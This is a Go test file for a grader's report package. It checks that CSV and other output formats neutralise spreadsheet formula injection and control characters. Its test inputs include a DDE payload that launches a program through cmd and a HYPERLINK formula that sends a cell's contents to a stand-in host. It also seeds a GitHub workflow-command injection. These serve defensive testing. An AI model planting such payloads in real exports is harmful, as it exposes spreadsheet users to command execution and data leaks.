package report_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"

	"workbook/grader/report"
)

// formulas are cells that a spreadsheet would work out.
var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "  =1", "\x00=1", "\ufeff=1", "\u200b=1",
	"＝1+1", "－1", `"=1"`, `=HYPERLINK("http://x/?"&A1)`, "a;=1", "a;-1;+1", `a; "@x"`, "a\t=1", "\x1b[31m=1", "'=1", "\u202e=1",
	"x,=1", "a\",\n=1",
}

// requireNoFormula fails when a spreadsheet would take a cell of a line for a
// formula, be it that it splits the line at commas, at semicolons or at tabs.
func requireNoFormula(t testing.TB, doc string) {
	t.Helper()
	unseen := func(r rune) bool { return r == '"' || unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) }
	numbers := 0
	for l := range strings.Lines(doc) {
		for _, c := range strings.FieldsFunc(l, func(r rune) bool { return r == ';' || r == '\t' }) {
			if c = strings.TrimLeftFunc(c, unseen); c != "" && strings.IndexAny(c, "=+-@＝＋－＠") == 0 {
				t.Fatalf("the cell %q, in %q", c, l)
			}
		}
	}
	rows, err := csv.NewReader(strings.NewReader(doc)).ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, doc)
	}
	for _, row := range rows {
		for _, c := range row {
			if _, err := strconv.ParseInt(c, 10, 64); err == nil {
				numbers++
				continue
			}
			if c = strings.TrimLeftFunc(c, unseen); c != "" && strings.IndexAny(c, "=+-@＝＋－＠") == 0 {
				t.Fatalf("the cell %q, in %q", c, row)
			}
		}
	}
	if len(rows) > 1 && numbers == 0 {
		t.Fatalf("no numbers in %q", doc)
	}
}

func TestCSVFormulas(t *testing.T) {
	for _, s := range append(formulas, hostile...) {
		var b bytes.Buffer
		require.NoError(t, report.WriteCSV(&b, filled(s, report.Fail)))
		requireNoFormula(t, b.String())
		requireNoControls(t, b.String())
		requireNoLegacyCommands(t, b.String())
		require.Equal(t, 2, strings.Count(b.String(), "\n"), "each cell is on one line: %q", b.String())
	}
}

func TestCSVCells(t *testing.T) {
	for in, want := range map[string]string{
		"":                     "",
		"plain, \"quoted\"":    "plain, \"quoted\"",
		"=1":                   "'=1",
		" -1":                  "'-1",
		"a - b = c":            "a - b = c",
		"got 1; -1 was wanted": "got 1;' -1 was wanted",
		"two\nlines":           "two lines",
		"'=1":                  "'=1",
	} {
		var b bytes.Buffer
		require.NoError(t, report.WriteCSV(&b, &report.Report{Exercises: []report.Exercise{{ID: "x", Title: in, Verdict: report.Pass}}}))
		rows, err := csv.NewReader(&b).ReadAll()
		require.NoError(t, err)
		require.Equal(t, want, rows[1][1])
	}
}

// A submission that was refused has its first problem as its message.
func TestCSVProblem(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, report.WriteCSV(&b, &report.Report{Exercises: []report.Exercise{{
		ID: "x", Verdict: report.Refused, Problems: []report.Problem{{File: "a.go", Line: 7, Message: "no"}, {File: "b.go"}},
	}}}))
	require.Contains(t, b.String(), "\nx,,refused,0,0,no,a.go,7,0,0,,0,0,,,,\n")
}

func TestCSVOfNothing(t *testing.T) {
	for _, r := range []*report.Report{nil, {}} {
		var b bytes.Buffer
		require.NoError(t, report.WriteCSV(&b, r))
		require.Equal(t, 1, strings.Count(b.String(), "\n"), "the names alone")
	}
}

func TestCSVIsDocumented(t *testing.T) {
	doc, err := os.ReadFile("doc.go")
	require.NoError(t, err)
	_, rest, ok := strings.Cut(string(doc), "# The CSV form")
	require.True(t, ok)
	var documented []string
	for l := range strings.Lines(rest) {
		if name, ok := strings.CutPrefix(l, "//\t"); ok {
			documented = append(documented, strings.Fields(name)[0])
		}
	}
	var b bytes.Buffer
	require.NoError(t, report.WriteCSV(&b, nil))
	require.Equal(t, strings.TrimSpace(b.String()), strings.Join(documented, ","))
}

// FuzzCSV fills every string of a report with what there is.
func FuzzCSV(f *testing.F) {
	for _, s := range append(formulas, hostile...) {
		f.Add(s, "fail")
	}
	f.Fuzz(func(t *testing.T, s, v string) {
		var b bytes.Buffer
		if err := report.WriteCSV(&b, filled(s, report.Verdict(v))); err != nil {
			t.Fatal(err)
		}
		requireNoFormula(t, b.String())
		requireNoControls(t, b.String())
		if n := strings.Count(b.String(), "\n"); n != 2 {
			t.Fatalf("%d lines:\n%s", n, b.String())
		}
	})
}

// FuzzReadJSON reads whatever there is: what is taken for a report can be written
// in every format, and read again as the same.
func FuzzReadJSON(f *testing.F) {
	for _, r := range []*report.Report{rich(), {}, filled("=1\n::error::", report.Fail)} {
		var b bytes.Buffer
		if err := report.WriteJSON(&b, r); err != nil {
			f.Fatal(err)
		}
		f.Add(b.Bytes())
	}
	f.Add([]byte(`{"schema":"workbook.report/v1","exercises":[{"id":"a","verdict":"pass","stages":null,"checks":[{"verdict":"fail","line":-5}]}]} x`))
	f.Fuzz(func(t *testing.T, in []byte) {
		r, err := report.ReadJSON(bytes.NewReader(in))
		if err != nil {
			return
		}
		var js, txt, junit, github, table bytes.Buffer
		for _, err := range []error{
			report.WriteJSON(&js, r), report.WriteJUnit(&junit, r), report.WriteGitHub(&github, r),
			report.WriteText(&txt, r, report.TextOptions{Width: 80, Verbose: true}), report.WriteCSV(&table, r),
		} {
			if err != nil {
				t.Fatal(err)
			}
		}
		requireNoControls(t, js.String())
		requireNoControls(t, txt.String())
		requireNoControls(t, github.String())
		requireNoControls(t, table.String())
		requireNoFormula(t, table.String())
		if err := checkJUnit(junit.Bytes()); err != nil {
			t.Fatalf("%v in\n%s", err, junit.String())
		}
		again, err := report.ReadJSON(&js)
		if err != nil {
			t.Fatal(err)
		}
		var second bytes.Buffer
		if err := report.WriteJSON(&second, again); err != nil {
			t.Fatal(err)
		}
		var first bytes.Buffer
		if err := report.WriteJSON(&first, r); err != nil {
			t.Fatal(err)
		}
		if first.String() != second.String() {
			t.Fatalf("%s\nand then\n%s", first.String(), second.String())
		}
		if r.Passed() != again.Passed() || r.ExitCode() != again.ExitCode() {
			t.Fatal("the verdict changed on the way")
		}
	})
}
